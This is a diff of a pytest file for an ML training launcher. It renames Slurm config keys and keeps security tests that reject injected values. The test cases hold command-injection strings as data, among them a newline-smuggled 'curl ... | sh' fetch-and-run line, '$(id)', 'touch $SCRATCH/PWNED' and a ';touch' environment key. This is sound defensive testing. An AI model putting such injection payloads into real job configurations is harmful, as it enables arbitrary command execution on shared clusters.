@@ -21,12 +21,15 @@ RUN = Path("/shared/difflm/runs/difflm-noshift-abc-def")
 @pytest.mark.parametrize(
     "override, field",
     [
-        ('train.slurm.sbatch_args={account: "proj\\ncurl -s http://127.0.0.1:9/x | sh #"}', "train.slurm.sbatch_args"),
-        ('train.slurm.sbatch_args={"acc\\nid #": proj}', "train.slurm.sbatch_args"),
-        ('train.slurm.sbatch_args={account: "$(id)"}', "train.slurm.sbatch_args"),
-        ('train.slurm.time="01:00:00\\ntouch $SCRATCH/PWNED_time"', "train.slurm.time"),
-        ("train.slurm.time=tomorrow", "train.slurm.time"),
-        ('train.slurm.partition="gpu --wrap=id"', "train.slurm.partition"),
+        (
+            'train.launch.slurm.sbatch_args={account: "proj\\ncurl -s http://127.0.0.1:9/x | sh #"}',
+            "train.launch.slurm.sbatch_args",
+        ),
+        ('train.launch.slurm.sbatch_args={"acc\\nid #": proj}', "train.launch.slurm.sbatch_args"),
+        ('train.launch.slurm.sbatch_args={account: "$(id)"}', "train.launch.slurm.sbatch_args"),
+        ('train.launch.slurm.time="01:00:00\\ntouch $SCRATCH/PWNED_time"', "train.launch.slurm.time"),
+        ("train.launch.slurm.time=tomorrow", "train.launch.slurm.time"),
+        ('train.launch.slurm.partition="gpu --wrap=id"', "train.launch.slurm.partition"),
         ('data.slurm.sbatch_args={qos: "high\\nid"}', "data.slurm.sbatch_args"),
         ('workdir="/shared/difflm\\ntouch $SCRATCH/PWNED_workdir\\n"', "workdir"),
     ],
@@ -39,7 +42,11 @@ def test_injected_sbatch_values_are_config_errors(override, field):
 @pytest.mark.parametrize("time", ["30", "00:30", "04:00:00", "2-00", "2-12:00", "1-00:00:00", "UNLIMITED"])
 def test_slurm_time_formats_are_accepted(time):
     cfg = load_config(
-        "test-tiny", [f"train.slurm.time={time}", "train.slurm.sbatch_args={account: proj, constraint: 'a&b', mem: 0}"]
+        "test-tiny",
+        [
+            f"train.launch.slurm.time={time}",
+            "train.launch.slurm.sbatch_args={account: proj, constraint: 'a&b', mem: 0}",
+        ],
     )
     script = slurm_script(cfg, RUN / "config.yaml", RUN / "data_manifest.json", RUN)
     # sbatch's arguments, not lines of the script
@@ -54,7 +61,7 @@ def test_script_refuses_unsafe_run_dirs_arguments_and_env_keys():
     quoted = Path('/shared/a"b/r')
     with pytest.raises(ConfigError, match="workdir"):
         slurm_script(cfg, quoted / "c.yaml", quoted / "m.json", quoted)
-    with pytest.raises(ConfigError, match="train.slurm"):
+    with pytest.raises(ConfigError, match="train.launch.slurm"):
         sbatch_options(cfg, time="1:00:00\nid")
     with pytest.raises(ConfigError, match="not an identifier"):
         slurm_script(cfg, RUN / "c.yaml", RUN / "m.json", RUN, env={"BAD;touch $SCRATCH/PWNED_envkey;X": "v"})
@@ -334,7 +341,7 @@ def test_disk_full_during_a_checkpoint_save_is_one_line_and_the_rerun_resumes(tm
 
     cfg = load_config(
         "test-tiny",
-        [f"workdir={tmp_path}", "train.train_iters=8", "checkpoint.save_interval=4", "train.warmup_iters=1"],
+        [f"workdir={tmp_path}", "train.train_iters=8", "checkpoint.save_interval=4", "train.schedule.warmup_iters=1"],
     )
     with pytest.raises(DiskFull) as err:
         launch_training(cfg, tiny_manifest, echo=lambda _: None, **fault_launch(disk_full_at=8))
